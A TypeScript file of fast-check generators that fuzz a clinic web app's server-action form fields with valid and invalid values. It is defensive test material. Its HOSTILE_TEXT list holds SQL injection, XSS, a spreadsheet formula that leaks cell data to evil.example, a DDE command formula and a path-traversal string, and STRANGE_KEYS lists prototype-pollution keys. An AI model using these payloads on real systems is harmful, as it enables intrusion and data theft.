import fc from "fast-check";
import { addLocalDays, clinicDate } from "@/domain/clinic-time";
import { formatTime } from "@/domain/format";
import { passwordWeakness } from "@/domain/password-strength";
import { witnessPinProblem } from "@/domain/witness-pin";

/**
 * Generators for what a browser (or anyone with curl) can post to a server action, field
 * by field: for each kind of field, values its schema must accept (`good`) and values it
 * must refuse (`bad`). A bad value is bad on its own, whatever the rest of the form says,
 * so a payload with one of them can only be refused.
 */

/** A file input's value, described so a failing payload prints readably; built into a File when posted. */
/** A file: its text, or a size in bytes (of "a", after `head` when given: a photo's signature). */
export type FileValue = { file: string; type: string; text: string } | { file: string; type: string; bytes: number; head?: readonly number[] };
export type FormValue = string | FileValue;
/** One field as posted: absent (no value), one value, or the name repeated. */
export type Posted = readonly FormValue[];

export type Field = {
  /** What the fixture payload posts: a well-formed value, naming real records. */
  base: Posted;
  good: fc.Arbitrary<Posted>;
  bad: fc.Arbitrary<Posted>;
  /** Where the field names a record: values of the right form that name no record. */
  dangling?: fc.Arbitrary<Posted>;
  /** "service": the action's schema passes the value on and the service checks it (a rule, not invalid). */
  checkedBy: "schema" | "service";
};

export const today = () => clinicDate(new Date());

const one = <T extends FormValue>(value: fc.Arbitrary<T>): fc.Arbitrary<Posted> => value.map((v) => [v]);
const missing: fc.Arbitrary<Posted> = fc.constant([]);
const blankText = fc.constantFrom("", " ", "   ", "\t\n", "\u00a0", "\ufeff", "\u2003\r\n");
const nonBlank = (s: string) => s.trim() !== "";

// ─── Strings nobody should be able to break anything with ───────────────────────────────

/** Text a form accepts and a careless layer might not: SQL, HTML, spreadsheet formulas, odd Unicode. */
export const HOSTILE_TEXT = [
  `'; DROP TABLE "Participant"; --`,
  `' OR '1'='1`,
  `1; SELECT pg_sleep(10)`,
  `"; DELETE FROM "AuditEvent" WHERE ''='`,
  `$1`,
  `\\'`,
  `%s%s%n`,
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(document.cookie)>`,
  `javascript:alert(1)`,
  `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
  `=cmd|' /C calc'!A0`,
  `+SUM(1,2)`,
  `-2+3`,
  `@SUM(A1:A9)`,
  `=1+1`,
  `Zoë Ångström-O'Brien`,
  `𝕳𝖊𝖗𝖔𝖎𝖓 𝖆𝖘𝖘𝖎𝖘𝖙𝖊𝖉`,
  `👩‍⚕️💉🏥`,
  `\u202eevil\u202c`,
  `a\u0301\u0301\u0301`,
  `zero\u200bwidth`,
  `lone \ud800 surrogate`,
  `\udfff`,
  `bell\u0007 and escape\u001b[31m`,
  `line\nbreak\r\nand\ttab`,
  `ﷺ ࿕ 𒐫`,
  `null`,
  `undefined`,
  `NaN`,
  `{}`,
  `[]`,
  `__proto__`,
  `constructor`,
  `../../etc/passwd`,
  `%00`,
  `\\u0000`,
  `C:\\Windows\\system32`,
];
export const hostileText = fc.constantFrom(...HOSTILE_TEXT);

/** Any short text: hostile strings and random code points (which may include NUL). */
export const anyText = fc.oneof(hostileText, fc.string({ unit: "binary", maxLength: 30 }), fc.string({ unit: "grapheme", maxLength: 30 }));

/** Text with a NUL in it: PostgreSQL cannot store one in text. */
export const textWithNul = fc.tuple(anyText, anyText).map(([a, b]) => `${a}\u0000${b}`);

/** At least `min` characters (up to 100,000; zod counts code points, so "𝕏" is one), none of them blank. */
export function hugeText(min: number, chars: readonly string[] = ["x", "é", "𝕏", "<", "'", ",", "9", "\u0000"]) {
  return fc.tuple(fc.constantFrom(...chars), fc.integer({ min, max: Math.max(min, 100_000) })).map(([c, n]) => c.repeat(n));
}

const csvText = fc.oneof(anyText, fc.constant("reference,offence date,offence type,severity score\r\nT-0001,2026-01-01,theft,1"));
export const fileValue: fc.Arbitrary<FileValue> = fc.record({
  file: fc.oneof(fc.constantFrom("extract.csv", "../../etc/passwd", "a\u0000.csv", ""), fc.string({ maxLength: 20 })),
  type: fc.constantFrom("text/csv", "application/octet-stream", "text/html", ""),
  text: csvText,
});

/** A value of the wrong kind for any text or number field: a file. */
const aFile: fc.Arbitrary<Posted> = one(fileValue);

/** The field's name posted twice with non-blank values: the action receives a list. */
const repeated = (value: fc.Arbitrary<string>): fc.Arbitrary<Posted> => fc.tuple(value, value).map(([a, b]) => [a, b]);

/** Anything at all, for fields the form does not have and for random forms. */
export const junk: fc.Arbitrary<FormValue> = fc.oneof(
  { arbitrary: anyText, weight: 6 },
  { arbitrary: textWithNul, weight: 1 },
  { arbitrary: hugeText(1000), weight: 1 },
  { arbitrary: fc.oneof(fc.integer(), fc.double()).map(String), weight: 2 },
  { arbitrary: fc.constantFrom("2026-02-30", "2026-13-01", "0000-01-01", "2026-01-01", "yes", "no", "AM", "PM", "true", "-1", "1.5", "1e400"), weight: 2 },
  { arbitrary: fileValue, weight: 1 },
);

const padded = (value: fc.Arbitrary<string>) =>
  fc.tuple(value, fc.constantFrom(["", ""], [" ", " "], ["\t", "\n"], ["\u00a0", "\ufeff"])).map(([v, [before, after]]) => `${before}${v}${after}`);

// ─── Field kinds ────────────────────────────────────────────────────────────────────────

const REFERENCE = /^[A-Za-z0-9_-]+$/;

/** A reference to a record (`id` in src/server/input-fields.ts): letters, digits, _ and -, at most 64. */
export function id(base: string, options: { optional?: boolean; realIds?: () => readonly string[] } = {}): Field {
  const notReal = (s: string) => !(options.realIds?.() ?? []).includes(s);
  const dangling = fc
    .oneof(fc.constantFrom("nonexistent", "c0000000000000000000000000", "pt_HAT-9999", "x", "-", "_".repeat(64), "0", "NULL"), fc.stringMatching(/^[A-Za-z0-9_-]{1,64}$/))
    .filter(notReal);
  const notAReference = fc.oneof(hostileText, anyText, textWithNul).filter((s) => nonBlank(s) && !REFERENCE.test(s.trim()));
  return {
    base: [base],
    good: fc.constant([base]),
    dangling: one(dangling),
    bad: fc.oneof(
      one(fc.stringMatching(/^[A-Za-z0-9_-]{65,200}$/)),
      one(notAReference),
      aFile,
      repeated(dangling),
      ...(options.optional ? [] : [missing, one(blankText)]),
    ),
    checkedBy: "schema",
  };
}

/** Free text (`text` and `optionalText`, or any string field that is stored): trimmed, at most `max`, no NUL. */
export function text(max: number, options: { optional?: boolean; min?: number; base?: string } = {}): Field {
  const min = options.min ?? 1;
  const fits = (s: string) => s.trim().length >= min && s.trim().length <= max && !s.includes("\u0000");
  const goodText = fc.oneof(hostileText, anyText, padded(hostileText), fc.constant("a".repeat(max))).filter(fits);
  const tooShort = min > 1 ? [one(fc.string({ minLength: 1, maxLength: min - 1 }).filter((s) => nonBlank(s) && s.trim().length < min))] : [];
  return {
    base: [options.base ?? "Fuzzed but sensible text"],
    good: options.optional ? fc.oneof(one(goodText), missing, one(blankText)) : one(goodText),
    bad: fc.oneof(one(hugeText(max + 1)), one(textWithNul), aFile, repeated(goodText), ...tooShort, ...(options.optional ? [] : [missing, one(blankText)])),
    checkedBy: "schema",
  };
}

const NOT_NUMBERS = ["abc", "NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1,000", "5 mg", "½", "٥", "五", "0b2", "--1", "1-", "1..2", "0x", "true", "null", "[]", "{}", "1_000", "١٠"];

/** A whole number from `min` to `max` (`wholeNumber`). */
export function wholeNumber(min: number, max: number, options: { optional?: boolean; base?: number } = {}): Field {
  const isGood = (s: string) => {
    const n = Number(s.trim());
    return nonBlank(s) && Number.isInteger(n) && n >= min && n <= max;
  };
  const goodText = fc
    .tuple(fc.integer({ min, max }), fc.constantFrom((n: number) => String(n), (n: number) => `+${n}`, (n: number) => `${n}.0`, (n: number) => ` ${n} `, (n: number) => `0${n}`))
    .map(([n, format]) => format(n))
    .filter(isGood);
  const badText = fc
    .oneof(
      fc.integer({ min: min - 1_000_000_000, max: min - 1 }).map(String),
      fc.integer({ min: max + 1, max: max + 1_000_000_000 }).map(String),
      fc.integer({ min, max: max - 1 }).map((n) => `${n}.5`),
      fc.double({ min: min - 10, max: max + 10, noNaN: true }).map(String),
      fc.constantFrom(...NOT_NUMBERS),
      hugeText(400, ["9"]),
      anyText,
      textWithNul,
    )
    .filter((s) => nonBlank(s) && !isGood(s));
  return {
    base: [String(options.base ?? min)],
    good: options.optional ? fc.oneof(one(goodText), missing) : one(goodText),
    bad: fc.oneof(one(badText), aFile, repeated(goodText), ...(options.optional ? [] : [missing, one(blankText)])),
    checkedBy: "schema",
  };
}

/** A measured amount from 0 to `max`, to at most `decimals` places (breath alcohol, naloxone). */
export function reading(max: number, decimals: number, options: { optional?: boolean; base?: string } = {}): Field {
  const scale = 10 ** decimals;
  const isGood = (s: string) => {
    const n = Number(s.trim());
    return nonBlank(s) && Number.isFinite(n) && n >= 0 && n <= max && Math.abs(Math.round(n * scale) - n * scale) < 1e-6;
  };
  const goodText = fc.integer({ min: 0, max: max * scale }).map((k) => (k / scale).toFixed(decimals)).filter(isGood);
  const badText = fc
    .oneof(
      fc.integer({ min: 1, max: 1_000_000 }).map((k) => String(-k / scale)),
      fc.integer({ min: max * scale + 1, max: max * scale * 1000 }).map((k) => String(k / scale)),
      fc.integer({ min: 0, max: max * scale - 1 }).map((k) => `${(k / scale).toFixed(decimals)}7`),
      fc.constantFrom(...NOT_NUMBERS),
      anyText,
    )
    .filter((s) => nonBlank(s) && !isGood(s));
  return {
    base: [options.base ?? "0"],
    good: options.optional ? fc.oneof(one(goodText), missing) : one(goodText),
    bad: fc.oneof(one(badText), aFile, repeated(goodText), ...(options.optional ? [] : [missing, one(blankText)])),
    checkedBy: "schema",
  };
}

/** A date as the date fields take it: yyyy-mm-dd, or day first, dd/mm/yyyy (src/domain/date-entry.ts). */
function isRealDate(s: string): boolean {
  const iso = /^(\d{4})-(\d{2})-(\d{2})$/.exec(s);
  const uk = /^(\d{1,2})\/(\d{1,2})\/(\d{4})$/.exec(s);
  if (!iso && !uk) return false;
  const [year, month, day] = (iso ? iso.slice(1) : [uk![3], uk![2], uk![1]]).map(Number) as [number, number, number];
  const leap = (year % 4 === 0 && year % 100 !== 0) || year % 400 === 0;
  const days = [31, leap ? 29 : 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31][month - 1];
  // PostgreSQL's date has no year 0 (1 BC): "0000-01-01" is not a date it can store.
  return year >= 1 && days !== undefined && day >= 1 && day <= days;
}

const isoDate = (min: string, max: string) =>
  fc.date({ min: new Date(`${min}T00:00:00Z`), max: new Date(`${max}T00:00:00Z`), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));

const IMPOSSIBLE_DATES = [
  "2026-02-30",
  "2026-13-01",
  "2026-00-10",
  "2025-02-29",
  "2100-02-29",
  "2026-04-31",
  "2026-01-32",
  "2026-01-00",
  "0000-01-01",
  "0000-00-00",
  "9999-99-99",
  "26-01-01",
  "2026/01/01",
  "2026-1-1",
  "01-01-2026",
  "31/02/2026",
  "29/02/2025",
  "01/13/2026",
  "1/1/26",
  "2026/01/01",
  "2026-01-01T00:00:00Z",
  "2026-01-01 00:00",
  "+002026-01-01",
  "-002026-01-01",
  "20260101",
  "२०२६-०१-०१",
  "２０２６-０１-０１",
  "today",
  "yesterday",
  "1735689600",
  "2026-01-01\u0000",
];

/** A calendar date yyyy-mm-dd (`localDate`), or one no later than today (`pastOrToday`). */
export function date(options: { optional?: boolean; past?: boolean; base?: string } = {}): Field {
  const latest = () => (options.past ? today() : "9999-12-31");
  const asIso = (s: string) => s.trim().replace(/^(\d{1,2})\/(\d{1,2})\/(\d{4})$/, (_, d: string, m: string, y: string) => `${y}-${m.padStart(2, "0")}-${d.padStart(2, "0")}`);
  const isGood = (s: string) => isRealDate(s.trim()) && asIso(s) <= latest();
  const ukOrder = (iso: string) => `${iso.slice(8, 10)}/${iso.slice(5, 7)}/${iso.slice(0, 4)}`;
  const someDate = isoDate("0001-01-01", options.past ? addLocalDays(today(), -1) : "9999-12-31");
  const goodText = fc
    .oneof(someDate, someDate.map(ukOrder), fc.constantFrom("0001-01-01", "1900-01-01", "1970-01-01", "2024-02-29", "29/02/2024", "1/2/2003"), padded(fc.constant(today())), padded(fc.constant(ukOrder(today()))))
    .filter(isGood);
  const impossible = fc
    .tuple(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 0, max: 99 }), fc.integer({ min: 0, max: 99 }))
    .map(([y, m, d]) => `${String(y).padStart(4, "0")}-${String(m).padStart(2, "0")}-${String(d).padStart(2, "0")}`);
  const badText = fc
    .oneof(fc.constantFrom(...IMPOSSIBLE_DATES), impossible, anyText, textWithNul, ...(options.past ? [isoDate(addLocalDays(today(), 1), "9999-12-31")] : []))
    .filter((s) => nonBlank(s) && !isGood(s));
  return {
    base: [options.base ?? addLocalDays(today(), -30)],
    good: options.optional ? fc.oneof(one(goodText), missing, one(blankText)) : one(goodText),
    bad: fc.oneof(one(badText), aFile, repeated(goodText), ...(options.optional ? [] : [missing, one(blankText)])),
    checkedBy: "schema",
  };
}

/** A time of day as written on a paper sheet, hh:mm (24-hour), as `<input type="time">` posts it. */
export function clockTime(base: string): Field {
  const isGood = (s: string) => /^([01]\d|2[0-3]):[0-5]\d$/.test(s.trim());
  const goodText = fc.tuple(fc.integer({ min: 0, max: 23 }), fc.integer({ min: 0, max: 59 })).map(([h, m]) => `${String(h).padStart(2, "0")}:${String(m).padStart(2, "0")}`);
  const badText = fc.oneof(fc.constantFrom("24:00", "7:05", "07:60", "0700", "7am", "07:00:00", "07.00"), anyText, textWithNul).filter((s) => nonBlank(s) && !isGood(s));
  return { base: [base], good: one(goodText), bad: fc.oneof(one(badText), aFile, repeated(goodText), missing, one(blankText)), checkedBy: "schema" };
}

/** Dates after today: well formed, but a rule refuses them where the day must have come (closing a session). */
export const futureDate = () => isoDate(addLocalDays(today(), 1), "9999-12-31");

/** One of a fixed list (`enumOf`, `yesNo`, `z.enum`). */
export function oneOf(values: readonly string[], options: { optional?: boolean; base?: string } = {}): Field {
  const goodText = padded(fc.constantFrom(...values));
  const near = values.flatMap((v) => [v.toLowerCase(), v.toUpperCase(), `${v}X`, `${v}\u0000`, `${v.slice(0, -1)}`, `"${v}"`, `${v},${v}`, v.replace(/_/g, " ")]);
  const badText = fc
    .oneof(fc.constantFrom(...near, "__proto__", "toString", "constructor", "valueOf", "0", "1", "true"), anyText)
    .filter((s) => nonBlank(s) && !values.includes(s.trim()));
  return {
    base: [options.base ?? values[0]!],
    good: options.optional ? fc.oneof(one(goodText), missing, one(blankText)) : one(goodText),
    bad: fc.oneof(one(badText), aFile, repeated(goodText), ...(options.optional ? [] : [missing, one(blankText)])),
    checkedBy: "schema",
  };
}

export const yesNo = (options: { optional?: boolean; base?: "yes" | "no" } = {}) => oneOf(["yes", "no"], options);

const NOT_EMAILS = ["not-an-email", "a@", "@b.co", "a@b", "a b@c.de", "a@@b.co", "<script>@x.io", "a@b.c", "a\u0000b@c.de", "a@b.co\u0000", "a@b..co", ".a@b.co", "a@-b.co", "mailto:a@b.co"];

/** A member of staff's email (`z.email`, at most 200): `base` is a real one. */
export function email(base: string, options: { realEmails?: readonly string[] } = {}): Field {
  const real = new Set((options.realEmails ?? [base]).map((e) => e.toLowerCase()));
  const goodText = padded(fc.constantFrom(base, base.toUpperCase(), base[0]!.toUpperCase() + base.slice(1)));
  const unknown = fc
    .oneof(fc.emailAddress(), fc.constantFrom("nobody@hat.example", "x@y.zz", "o'brien@hat.example", "a+b@hat.example"))
    .filter((e) => !real.has(e.trim().toLowerCase()));
  const badText = fc
    .oneof(fc.constantFrom(...NOT_EMAILS), hugeText(200, ["a"]).map((s) => `${s}@hat.example`), anyText.filter((s) => !s.includes("@")))
    .filter(nonBlank);
  return {
    base: [base],
    good: one(goodText),
    dangling: one(unknown),
    bad: fc.oneof(one(badText), aFile, repeated(goodText), missing, one(blankText)),
    checkedBy: "schema",
  };
}

/** A PIN: 6 to 8 digits. `base` is the witness's real one; anything else of that form is a wrong PIN. */
export function pin(base: string): Field {
  const isGood = (s: string) => /^\d{6,8}$/.test(s.trim());
  const wrong = fc.stringMatching(/^\d{6,8}$/).filter((p) => p !== base);
  const badText = fc
    .oneof(fc.constantFrom("123", "1357", "12345", "123456789", "12a456", "١٢٣٤٥٦", "123 456", "-123456", "123456.0", "123456\u0000"), fc.string({ maxLength: 12 }), anyText)
    .filter((s) => nonBlank(s) && !isGood(s));
  return { base: [base], good: fc.constant([base]), dangling: one(wrong), bad: fc.oneof(one(badText), aFile, repeated(wrong), missing, one(blankText)), checkedBy: "schema" };
}

/** A new witness PIN its owner chooses: 6 to 8 digits, and not a run, a repeat or a common PIN (witnessPinProblem). */
export function newWitnessPin(base: string): Field {
  const isGood = (s: string) => witnessPinProblem(s) === null;
  const goodText = fc.stringMatching(/^\d{6,8}$/).filter(isGood);
  const badText = fc
    .oneof(fc.constantFrom("123456", "654321", "111111", "121212", "112233", "13579", "123456789", "12a456"), fc.stringMatching(/^\d{1,10}$/), anyText)
    .filter((s) => nonBlank(s) && !isGood(s.trim()));
  return { base: [base], good: one(goodText), bad: fc.oneof(one(badText), aFile, repeated(goodText), missing), checkedBy: "schema" };
}

/** A form's submission key (`z.uuid()`): made by the browser, absent when the form was posted before its script ran. */
export function submissionKey(): Field {
  const isKey = (s: string) => /^[0-9a-f]{8}-[0-9a-f]{4}-[1-8][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/i.test(s.trim());
  const key = fc.uuid({ version: 4 });
  const notAKey = fc
    .oneof(fc.constantFrom("0", "not-a-key", "{00000000-0000-4000-8000-000000000000}", "00000000000040008000000000000000"), key.map((k) => `${k}x`), anyText)
    .filter((s) => nonBlank(s) && !isKey(s));
  return {
    base: ["6f1d2c3b-4a59-4e68-8b7a-0c1d2e3f4a5b"],
    good: fc.oneof(one(padded(key)), missing, one(blankText)),
    bad: fc.oneof(one(notAKey), aFile, repeated(key)),
    checkedBy: "schema",
  };
}

/** When something happened, typed dd/mm/yyyy hh:mm or posted yyyy-mm-ddThh:mm (clinic time); optional. Good values are of the last hours; the service refuses future ones. */
export function dateTimeLocal(): Field {
  const isLocalDateTime = (s: string) => /^(\d{4}-\d{2}-\d{2}(T|\s+)|\d{1,2}\/\d{1,2}\/\d{4}\s+)\d{1,2}:\d{2}$/.test(s.trim());
  const recent = fc.tuple(fc.integer({ min: 0, max: 6 * 60 }), fc.boolean()).map(([minutesAgo, ukOrder]) => {
    const at = new Date(Date.now() - minutesAgo * 60_000);
    const date = clinicDate(at);
    return ukOrder ? `${date.slice(8, 10)}/${date.slice(5, 7)}/${date.slice(0, 4)} ${formatTime(at)}` : `${date}T${formatTime(at)}`;
  });
  const notADateTime = fc
    .oneof(fc.constantFrom("2026-13-01T10:00", "2026-02-30T10:00", "2026-01-01T24:00", "30/11/2026", "yesterday", "10:00", "2026-01-01T10:00:00Z", "11/30/2026 10:00pm"), anyText)
    .filter((s) => nonBlank(s) && !isLocalDateTime(s));
  return { base: [], good: fc.oneof(one(recent), missing), bad: fc.oneof(one(notADateTime), aFile, repeated(recent)), checkedBy: "schema" };
}

/** A password: 12 to 200 characters after trimming, and not too easy to guess (src/domain/password-strength.ts). */
export function password(base: string): Field {
  const isGood = (s: string) => passwordWeakness(s.trim()) === null;
  // Unrelated words, then anything: strong whatever follows (checked once, not per value, to keep the run short).
  const goodText = fc.oneof(fc.string({ maxLength: 40 }), fc.string({ unit: "binary", maxLength: 40 })).map((s) => `kettle orbit violet ${s}`);
  const badText = fc
    .oneof(fc.constantFrom("password1234", "Password1234!", "qwertyuiopasdf", "aaaaaaaaaaaaaaaa"), fc.string({ minLength: 1, maxLength: 11 }), hugeText(201))
    .filter((s) => nonBlank(s) && !isGood(s));
  return { base: [base], good: one(goodText), bad: fc.oneof(one(badText), aFile, repeated(goodText), missing, one(blankText)), checkedBy: "schema" };
}

/** Pounds as typed ("45,000", "£1,234.50"): at most two decimals, never negative, at most £21.4 million. */
export function pounds(isPounds: (text: string) => boolean, base = "45000"): Field {
  const goodText = fc
    .tuple(fc.integer({ min: 0, max: 21_000_000 }), fc.constantFrom((n: number) => String(n), (n: number) => `£${n.toLocaleString("en-GB")}`, (n: number) => `${n}.50`, (n: number) => ` £ ${n} `))
    .map(([n, format]) => format(n))
    .filter(isPounds);
  const badText = fc
    .oneof(
      fc.constantFrom("-5", "abc", "1.234", "£", "12,34", "1,2345", "NaN", "Infinity", "1e5", "99999999999", "£-1", "$5", "5 pounds", "0x10", "£1,000,00"),
      fc.double({ noNaN: true }).map(String),
      anyText,
    )
    .filter((s) => nonBlank(s) && !isPounds(s));
  return { base: [base], good: one(goodText), bad: fc.oneof(one(badText), aFile, repeated(goodText), missing, one(blankText)), checkedBy: "schema" };
}

/** An uploaded file, at most 1 MB and not empty. */
export function upload(base: FileValue): Field {
  return {
    base: [base],
    good: fc.constant([base]),
    bad: fc.oneof(
      missing,
      one(anyText.filter(nonBlank)),
      fc.constant([{ file: "empty.csv", type: "text/csv", text: "" }]),
      fc.integer({ min: 1_000_001, max: 1_100_000 }).map((bytes) => [{ file: "huge.csv", type: "text/csv", bytes }]),
      fc.tuple(fileValue, fileValue).map(([a, b]) => [a, b]),
    ),
    checkedBy: "schema",
  };
}

/** A value the schema passes through and the service checks against the setting's own schema. */
export function settingValue(base: string): Field {
  const badText = fc
    .oneof(
      fc.integer({ min: -1_000_000, max: -1 }).map(String),
      fc.integer({ min: 501, max: 1_000_000_000 }).map(String),
      fc.integer({ min: 0, max: 500 }).map((n) => `${n}.5`),
      fc.constantFrom(...NOT_NUMBERS),
      anyText,
    )
    .filter((s) => nonBlank(s) && !/^\s*[+-]?\d+(\.0*)?\s*$/.test(s));
  return { base: [base], good: fc.constant([base]), bad: fc.oneof(one(badText), aFile, repeated(badText)), checkedBy: "service" };
}

/** A UK NHS number: ten digits, spaces allowed. */
export function nhsNumber(): Field {
  const isGood = (s: string) => /^\d{10}$/.test(s.trim().replace(/\s/g, ""));
  const goodText = fc.oneof(fc.stringMatching(/^\d{10}$/), fc.constant("943 476 5919"));
  const badText = fc
    .oneof(fc.stringMatching(/^\d{1,9}$/), fc.stringMatching(/^\d{11,14}$/), fc.constantFrom("943-476-5919", "ABCDEFGHIJ", "１２３４５６７８９０"), anyText, textWithNul)
    .filter((s) => nonBlank(s) && !isGood(s));
  return { base: [], good: fc.oneof(one(goodText), missing), bad: fc.oneof(one(badText), aFile, repeated(goodText)), checkedBy: "schema" };
}

/** Field names that are not on any form: prototype keys, Next's own, and ones a mass assignment would want. */
export const STRANGE_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "$ACTION_ID_0123456789abcdef",
  "$ACTION_REF_1",
  "$ACTION_KEY",
  "id",
  "siteId",
  "userId",
  "actorId",
  "role",
  "createdAt",
  "stage",
  "outcome",
  "value.__proto__.polluted",
  "results.__proto__",
  "a\u0000b",
  "",
];
